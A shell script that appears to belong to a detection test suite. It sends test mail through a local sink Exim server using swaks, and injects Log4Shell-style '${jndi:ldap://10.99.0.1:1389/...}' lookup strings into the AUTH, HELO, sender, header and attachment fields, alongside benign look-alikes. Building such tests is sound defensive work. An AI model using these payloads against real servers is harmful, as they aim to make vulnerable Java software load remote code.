# SPDX-License-Identifier: GPL-2.0-or-later
# Mail as administrators and their scripts send it: swaks to Exim. Exim takes any mail and any password, and throws the mail away.

exim_up() {
    mkdir -p "$WORK/exim/spool" "$WORK/exim/log"
    sed "s|@WORK@|$WORK|g" "$here/srv/exim.conf" >"$WORK/exim/exim.conf"
    chown -R Debian-exim "$WORK/exim/spool" "$WORK/exim/log"
    chmod 755 "$WORK"
    serve in 25 exim4 -C "$WORK/exim/exim.conf" -bdf -oP "$WORK/exim/pid"
}

mail_out() {
    timeout 20 $OUT swaks --silent 1 --server 10.99.0.2 --helo client.corp.example --from alice@corp.example --to bob@corp.example \
        --header 'Date: Wed, 25 Nov 2026 10:00:00 +0000' --header 'Message-Id: <1@corp.example>' "$@"
}

attach_file() {
    printf '%s' "$1" >"$WORK/notes.txt"
    mail_out --body 'See the notes.' --attach-type application/octet-stream --attach-name notes.txt --attach "@$WORK/notes.txt"
}

benign_mailer() {
    mail_out --auth LOGIN --auth-user '${USER:-alice}' --auth-password '${PASSWORD}' --header 'Subject: Dear ${customer}'
    mail_out --auth PLAIN --auth-user alice --auth-password 'jndi:ldap' --header 'X-Mailer: swaks ${version}'
    mail_out --helo '${hostname}' --header 'Subject: jndi:ldap://host/a and ${'
    attach_file 'url=${LDAP_URL:-ldap://ldap.corp.example:389}'
}

mailer_names="mail-auth-login mail-auth-plain mail-helo mail-sender mail-header mail-attached-file benign-mailer"
# shellcheck disable=SC2086
if wanted $mailer_names && have swaks exim4; then
    exim_up
    scene mail-auth-login mail_out --auth LOGIN --auth-user '${jndi:ldap://10.99.0.1:1389/login}' --auth-password secret
    scene mail-auth-plain mail_out --auth PLAIN --auth-user alice --auth-password '${jndi:ldap://10.99.0.1:1389/plain}'
    scene mail-helo mail_out --helo '${jndi:ldap://10.99.0.1:1389/helo}'
    scene mail-sender mail_out --from '"${jndi:ldap://10.99.0.1:1389/sender}"@corp.example' --header 'From: alice@corp.example'
    scene mail-header mail_out --header 'X-Originating-Host: ${jndi:ldap://10.99.0.1:1389/origin}'
    scene mail-attached-file attach_file 'user ${jndi:ldap://10.99.0.1:1389/file} was here'
    scene benign-mailer benign_mailer
    stop_servers
fi
